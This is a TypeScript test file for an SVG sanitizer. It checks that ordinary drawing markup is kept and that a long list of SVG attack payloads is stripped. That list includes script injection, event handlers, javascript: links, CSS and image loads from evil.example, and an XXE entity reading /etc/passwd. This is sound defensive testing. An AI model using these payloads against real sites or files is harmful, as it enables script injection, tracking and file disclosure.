import fc from 'fast-check'
import { describe, expect, test } from 'vitest'

import { cases } from '../../../tests/support/effort.ts'
import { rewriteSvg } from './rewrite-svg.ts'

const NS = ' xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const inside = (markup: string) =>
  rewriteSvg(`<svg>${markup}</svg>`)
    ?.text.replace(`<svg${NS}>`, '')
    .replace(/<\/svg>$/, '')

describe('a drawing keeps', () => {
  test.each([
    ['shapes', '<path d="M0 0h1" stroke="#123" stroke-width="2"></path>'],
    ['text', '<text x="1" y="2" font-family="IBM Plex Sans">15 °C &amp; 5 &lt; 6</text>'],
    ['title and description', '<title>Derating</title><desc>Output power over temperature</desc>'],
    ['gradients by their id', '<linearGradient id="g"><stop offset="0" stop-color="red"></stop></linearGradient><rect fill="url(#g)"></rect>'],
    ['copies of its own parts', '<g id="a"></g><use href="#a"></use><use xlink:href="#a"></use>'],
    ['plain styles', '<style>.axis{stroke:#123;fill:none}</style>'],
    ['names for those who cannot see it', '<g role="img" aria-label="Inrush current"></g>'],
  ])('%s', (_, markup) => {
    expect(inside(markup)).toBe(markup)
  })
  test('its size, from width and height, from one of them, from the view box, or as browsers take it', () => {
    const size = (attributes: string) => {
      const clean = rewriteSvg(`<svg ${attributes}/>`)
      return [clean?.width, clean?.height]
    }
    expect(size('width="640" height="320px"')).toEqual([640, 320])
    expect(size('width="640" viewBox="0 0 4 1"')).toEqual([640, 160])
    expect(size('height="100" viewBox="0 0 4 1"')).toEqual([400, 100])
    expect(size('viewBox="0 0 33.4 20"')).toEqual([33, 20])
    expect(size('width="100%" viewBox="0,0,40,20"')).toEqual([40, 20])
    expect(size('')).toEqual([300, 150])
  })
})

/** Known ways to run scripts or to load from elsewhere in an SVG. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<script href="https://evil.example/x.js"/>',
  '<script type="text/javascript"><![CDATA[alert(1)]]></script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>',
  '<g onload="alert(1)"/>',
  '<g onLoad="alert(1)" ONCLICK="alert(1)"/>',
  '<g xlink:onload="alert(1)"/>',
  '<a href="javascript:alert(1)"><text>x</text></a>',
  '<a xlink:href="java&#x0A;script:alert(1)"><text>x</text></a>',
  '<a href="&#106;avascript:alert(1)"/>',
  '<a href=" #x" target="https://evil.example"/>',
  '<use href="https://evil.example/x.svg#a"/>',
  '<use href="data:image/svg+xml;base64,PHN2Zz4=#a"/>',
  '<image href="https://evil.example/pixel.png"/>',
  '<image xlink:href="data:image/svg+xml,%3Csvg onload=alert(1)%3E"/>',
  '<feImage href="https://evil.example/x.png"/>',
  '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>',
  '<foreignObject><iframe src="https://evil.example"/></foreignObject>',
  '<iframe src="javascript:alert(1)"/>',
  '<set attributeName="href" to="javascript:alert(1)"/>',
  '<animate attributeName="xlink:href" values="javascript:alert(1)"/>',
  '<animateTransform onbegin="alert(1)"/>',
  '<handler type="application/ecmascript">alert(1)</handler>',
  '<listener handler="#x"/>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>rect{fill:url(https://evil.example/x)}</style>',
  '<style>rect{fill:u\\72l(https://evil.example/x)}</style>',
  '<style>rect{width:expression(alert(1))}</style>',
  '<style>rect{-moz-binding:none;behavior:none}</style>',
  '<style>@font-face{font-family:a;src:local(b)}</style>',
  '<style>rect{background:image-set("https://evil.example/x" 1x)}</style>',
  '<style>rect{fill:ur/**/l(https://evil.example/x)}</style>',
  '<style>&lt;/style>&lt;script>alert(1)&lt;/script></style>',
  '<rect fill="url(https://evil.example/x#a)"/>',
  '<rect fill="url(#a) url(https://evil.example/x)"/>',
  '<rect style="fill:url(&quot;https://evil.example/x&quot;)"/>',
  '<rect filter="url(data:image/svg+xml,x#a)"/>',
  '<text>&lt;script>alert(1)&lt;/script></text>',
  '<text><![CDATA[<script>alert(1)</script>]]></text>',
  '<title>&lt;/title>&lt;script>alert(1)&lt;/script></title>',
  '<!--><script>alert(1)</script>-->',
  '<?xml-stylesheet href="https://evil.example/x.css"?>',
  '<?php echo 1 ?>',
  '<g id="a&quot; onload=&quot;alert(1)"/>',
  '<g xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></g>',
  '<g xml:base="https://evil.example/"/>',
  '<use href="#a" href="javascript:alert(1)"/>',
  '<mpath href="https://evil.example"/>',
  '<audio src="https://evil.example/x.mp3"/>',
  '<g><script>alert(1)',
  '</svg><script>alert(1)</script><svg>',
  '<metadata><script>alert(1)</script></metadata>',
]

/** Expects that nothing in the text runs, loads or links to elsewhere: reads elements and attributes as a browser would. */
function expectHarmless(text: string) {
  const markup = text.replaceAll(NS, '')
  const tags = [...markup.matchAll(/<([^\s>/]+)((?:\s[^<>]*)?)>/g)]
  expect(
    tags
      .map(([, name]) => name)
      .filter((name) => /script|foreign|iframe|image|animate|set$|handler|listener|audio|:|metadata/i.test(name ?? '') && name !== '/svg'),
  ).toEqual([])
  for (const [, , attributes = ''] of tags) {
    expect(attributes.replace(/"[^"]*"/g, '""')).not.toMatch(/\son|base|target|src/i)
    expect(attributes).not.toMatch(/href="(?!#)|url\((?!#)|xmlns|javascript:/i)
  }
  for (const [, css = ''] of markup.matchAll(/<style>([^<]*)</g)) expect(css).not.toMatch(/url|@import|@font|\\|expression|binding|behavior|image/i)
  expect(markup).not.toMatch(/<[!?]/)
}

describe('a drawing loses what runs, loads or leads elsewhere', () => {
  test.each(ATTACKS)('%s', (attack) => {
    const clean = rewriteSvg(`<svg><rect id="a"/>${attack}<circle r="1"/></svg>`)
    expectHarmless(clean?.text ?? '')
    expect(clean?.text).toContain('<rect id="a"></rect>')
  })
  test('its own event handlers and document type', () => {
    const clean = rewriteSvg(
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "<script>alert(1)</script>">]><svg onload="alert(1)"><text>&x;&y;</text></svg>',
    )
    expectHarmless(clean?.text ?? '')
    expect(clean?.text).toContain('<text>&amp;x;&amp;y;</text>')
  })
  test('everything outside the one drawing', () => {
    expect(rewriteSvg('<svg/><svg onload="alert(1)"/><script/>')?.text).toBe(`<svg${NS}></svg>`)
    expect(rewriteSvg('<html><svg/></html>')).toBeUndefined()
    expect(rewriteSvg('no drawing')).toBeUndefined()
  })
  test('nesting that would exhaust a parser', () => {
    const clean = rewriteSvg(`<svg>${'<g>'.repeat(1500)}</svg>`)
    expect(clean?.text.match(/<g>/g)?.length).toBe(199)
  })
})

test('a file of two megabytes that only opens elements is refused at once', () => {
  const begun = performance.now()
  expect(rewriteSvg(`<svg>${'<g>'.repeat(600_000)}`)).toBeUndefined()
  expect(rewriteSvg(`<svg>${'<script>'.repeat(200_000)}`)).toBeUndefined()
  expect(performance.now() - begun).toBeLessThan(1000)
})

test('an element may have more attributes than a call has arguments', () => {
  const attributes = Array.from({ length: 150_000 }, (_, index) => `data-a${index}=""`).join(' ')
  expect(inside(`<rect ${attributes}></rect>`)).toBe(`<rect ${attributes}></rect>`)
})

test('whatever attacks are combined, what is written is harmless, and writing it again changes nothing', () => {
  const part = fc.oneof(
    fc.constantFrom(...ATTACKS),
    fc.constantFrom('<g>', '</g>', '<style>', '</style>', '<![CDATA[', ']]>', '"', "'", '<', '>', '&', '<text>'),
    fc.string({ maxLength: 8 }),
  )
  fc.assert(
    fc.property(fc.array(part, { maxLength: 8 }), (parts) => {
      const once = rewriteSvg(`<svg>${parts.join('')}</svg>`)?.text ?? ''
      expectHarmless(once)
      expect(rewriteSvg(once)?.text).toBe(once)
    }),
    { numRuns: cases(1000) },
  )
})
